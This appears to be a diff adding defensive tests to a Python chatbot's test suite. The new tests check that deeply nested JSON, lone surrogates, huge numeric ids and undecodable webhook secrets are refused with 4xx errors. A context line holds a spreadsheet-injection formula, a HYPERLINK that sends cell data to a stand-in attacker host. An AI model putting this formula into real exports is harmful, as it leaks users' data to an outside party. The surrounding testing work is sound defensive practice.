@@ -3,6 +3,7 @@ failed before its fix."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 from collections.abc import AsyncIterator
@@ -16,6 +17,7 @@ from openpyxl import load_workbook
 from sqlalchemy import func, select
 
 from bot.app import create_app
+from bot.channels.inbound import read_json, same_secret
 from bot.contests.bank import export_results
 from bot.keys import DEPS
 from bot.report import workbook
@@ -24,8 +26,10 @@ from bot.settings import Settings
 from bot.staff import auth
 from db.contest_queries import GroupStanding, Standing
 from db.models import Contest, User
+from tests.fakes.telegram_api import FakeTelegram
 from tests.report_sample import sample_report
 from tests.test_staff_console import PASSWORD, login
+from tests.test_telegram import settings_for
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Bấm vào đây")'
 
@@ -145,3 +149,98 @@ async def test_public_pages_are_framed_only_by_the_allowed_ward_sites(tmp_path: 
         body = {"user": "visitor-bbbbbbbbbbbbbbbb", "text": "xin chào"}
         api = await public.post("/api/chat", json=body)
         assert api.headers["X-Content-Type-Options"] == "nosniff"
+
+
+# --- 6. crafted input ------------------------------------------------------------------------
+
+
+async def test_crafted_chat_input_gets_a_4xx_or_a_kind_reply_never_a_5xx(
+    client: TestClient,
+) -> None:
+    user = "visitor-cccccccccccccccc"
+    deep = '{"user": "' + user + '", "text": ' + "[" * 50_000 + "]" * 50_000 + "}"
+    cases = [
+        ("deep JSON", deep),
+        ("lone surrogate", '{"user": "' + user + '", "text": "xin ch\\ud800o"}'),
+        ("surrogate payload", '{"user": "' + user + '", "payload": "open:\\udfff"}'),
+    ]
+    huge = "9" * 100
+    for payload in (
+        f"quiz:go:{huge}",
+        f"quiz:open:{huge}",
+        f"annq:{huge}",
+        "quiz:ans:²",
+        f"quiz:ans:{huge}",
+        f"learn:ans:{huge}",
+        f"rate:a:x:{huge}",
+        "human:add:x",
+    ):
+        cases.append((payload, '{"user": "' + user + '", "payload": "' + payload + '"}'))
+    for name, body in cases:
+        response = await client.post(
+            "/api/chat", data=body, headers={"Content-Type": "application/json"}
+        )
+        assert response.status < 500, (name, response.status)
+        answer = await response.json()
+        assert answer.get("error") or answer["replies"][0]["text"], name
+
+
+@pytest.fixture
+async def telegram(tmp_path: Path) -> AsyncIterator[TestClient]:
+    """The app with its Telegram webhook, against a fake Bot API."""
+    fake = await FakeTelegram().start()
+    try:
+        async with TestClient(TestServer(create_app(settings_for(fake, tmp_path)))) as client:
+            yield client
+    finally:
+        await fake.stop()
+
+
+async def test_a_webhook_secret_of_undecodable_bytes_is_refused_not_a_5xx(
+    telegram: TestClient,
+) -> None:
+    body = b'{"update_id": 1}'
+    for secret in ("bí-mật".encode(), b"\xff\xfe\xc3"):
+        reader, writer = await asyncio.open_connection(telegram.host, telegram.port)
+        writer.write(
+            b"POST /webhooks/telegram HTTP/1.1\r\nHost: ward\r\n"
+            b"Content-Type: application/json\r\nConnection: close\r\n"
+            b"X-Telegram-Bot-Api-Secret-Token: " + secret + b"\r\n"
+            b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
+        )
+        status = int((await reader.readline()).split()[1])
+        writer.close()
+        assert 400 <= status < 500, (secret, status)
+
+
+def test_secrets_compare_whatever_bytes_a_header_carried() -> None:
+    undecodable = b"\xff\xfe".decode("utf-8", "surrogateescape")  # as aiohttp hands it over
+    assert not same_secret(undecodable, "s3cret") and not same_secret("bí-mật", "s3cret")
+    assert same_secret("s3cret", "s3cret")
+
+
+def test_bodies_too_deep_or_with_lone_surrogates_are_read_safely() -> None:
+    with pytest.raises(ValueError):
+        read_json("[" * 100_000 + "]" * 100_000)
+    assert read_json('{"text": "a\\ud800b"}') == {"text": "a?b"}
+
+
+async def test_console_forms_with_words_for_ids_get_a_4xx(client: TestClient) -> None:
+    csrf = await login(client, "binh")
+    await client.post(
+        "/staff/feedback/new",
+        data={"csrf": csrf, "category": "khac", "description": "Đèn đường hỏng ở tổ 3"},
+    )
+    exported = (await (await client.get("/staff/export.csv")).read()).decode("utf-8-sig")
+    code = list(csv.reader(io.StringIO(exported)))[1][0]
+    for staff_id in ("abc", "²", "9" * 40, ""):
+        assigned = await client.post(
+            f"/staff/feedback/{code}/assign", data={"csrf": csrf, "staff_id": staff_id}
+        )
+        assert assigned.status == 400, staff_id
+    csrf = await login(client, "an")
+    for canned in ("abc", "9" * 40):
+        deleted = await client.post(f"/staff/canned/{canned}/delete", data={"csrf": csrf})
+        assert deleted.status == 404, canned
+    for path in ("/staff/questions/abc", "/staff/questions/" + "9" * 40, "/staff/contests/²"):
+        assert (await client.get(path)).status == 404, path
